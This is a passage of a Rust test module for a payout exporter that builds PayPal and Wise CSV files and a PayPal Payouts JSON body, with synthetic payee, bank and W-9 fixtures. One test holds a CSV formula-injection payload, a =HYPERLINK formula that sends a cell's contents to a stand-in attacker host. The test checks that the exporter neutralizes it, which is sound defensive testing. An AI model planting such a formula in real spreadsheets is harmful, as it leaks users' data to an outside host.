    }

    #[test]
    fn paypal_row_layout() {
        assert_eq!(paypal_csv_row(3, &paypal(7)), "p7@example.com,10.07,USD,7,Gatehouse payout batch 3,PAYPAL\n");
    }

    #[test]
    fn paypal_json_is_the_payouts_api_body() {
        let mut s = paypal_json_head("GH-abc-1");
        s.push_str(&paypal_json_item(true, &paypal(1)));
        s.push_str(&paypal_json_item(false, &paypal(2)));
        s.push_str(PAYPAL_JSON_TAIL);
        let v: serde_json::Value = serde_json::from_str(&s).unwrap();
        assert_eq!(v["sender_batch_header"]["sender_batch_id"], "GH-abc-1");
        assert_eq!(v["items"][1]["sender_item_id"], "2");
        assert_eq!(v["items"][1]["amount"]["value"], "10.02");
        assert_eq!(v["items"][0]["receiver"], "p1@example.com");
    }

    #[test]
    fn sender_batch_ids_are_random_per_batch_and_stable_per_part() {
        let ids: std::collections::BTreeSet<String> = (0..1_000).map(|_| new_sender_batch_id("GH")).collect();
        assert_eq!(ids.len(), 1_000, "never repeated");
        let id = new_sender_batch_id("PROD");
        assert!(id.starts_with("PROD-") && id.len() == 5 + 32, "{id}");
        assert_eq!(part_sender_batch_id(&id, 2), part_sender_batch_id(&id, 2), "a retry repeats the part's id");
        assert_ne!(part_sender_batch_id(&id, 1), part_sender_batch_id(&id, 2));
        // PayPal: sender_batch_id is at most 256 characters (payments_payouts_batch_v1).
        assert!(part_sender_batch_id(&new_sender_batch_id(&"P".repeat(32)), 99_999).len() <= 256);
    }

    #[test]
    fn wise_templates_have_wise_column_names() {
        assert_eq!(
            WiseTemplate::Email.header(),
            "name,recipientEmail,paymentReference,receiverType,amountCurrency,amount,sourceCurrency,targetCurrency\n"
        );
        let bank = WiseTemplate::BankAccount.columns();
        assert_eq!(&bank[..8], WISE_EMAIL_COLUMNS, "the bank template extends the email one");
        assert_eq!(
            &bank[8..],
            [
                "abartn",
                "accountNumber",
                "accountType",
                "addressCountryCode",
                "addressCity",
                "addressFirstLine",
                "addressState",
                "addressPostCode"
            ]
        );
    }

    #[test]
    fn wise_bank_rows_carry_the_account_and_the_w9_address() {
        let row = cells(&wise_row(&bank(Some(w9(false)))));
        assert_eq!(row.len(), WISE_BANK_COLUMNS.len());
        assert_eq!(
            row,
            [
                "Dee, Jr",
                "",
                "GH5",
                "PERSON",
                "target",
                "25.50",
                "USD",
                "USD",
                "021000021",
                "123456789",
                "SAVINGS",
                "US",
                "Austin",
                "1 Elm St Apt 2",
                "TX",
                "78701"
            ]
        );
        assert_eq!(wise_row(&bank(Some(w9(false)))).matches('"').count(), 2, "only the comma-bearing name is quoted");
        let business = cells(&wise_row(&bank(Some(w9(true)))));
        assert_eq!((business[0].as_str(), business[3].as_str()), ("Dee, Jr", "INSTITUTION"), "the holder's name");
    }

    #[test]
    fn wise_email_rows_name_the_w9_payee() {
        let mut r = paypal(9);
        r.receiver = Some(w9(true));
        let row = cells(&wise_row(&r));
        assert_eq!(row, ["Dee Labeling LLC", "p9@example.com", "GH9", "INSTITUTION", "target", "10.09", "USD", "USD"]);
        r.receiver = Some(w9(false));
        assert_eq!(cells(&wise_row(&r))[..4], ["Dee Doe", "p9@example.com", "GH9", "PERSON"]);
        r.receiver = None;
        assert_eq!(cells(&wise_row(&r))[0], "Ana", "the account name without a W-9");
    }

    #[test]
    fn stored_formula_names_are_neutralized_in_every_csv() {
        let mut r = paypal(3);
        r.name = "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")".into();
        let row = cells(&wise_row(&r));
        assert_eq!(row[0], "'=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")");
        let mut b = bank(None);
        if let Destination::Bank(acct) = &mut b.destination {
            acct.holder_name = "@SUM(1+1)".into();
        }
        assert_eq!(cells(&wise_row(&b))[0], "'@SUM(1+1)");
        assert_eq!(cells(&wise_row(&bank(None)))[0], "Dee, Jr", "a validated name is unchanged");
    }
}
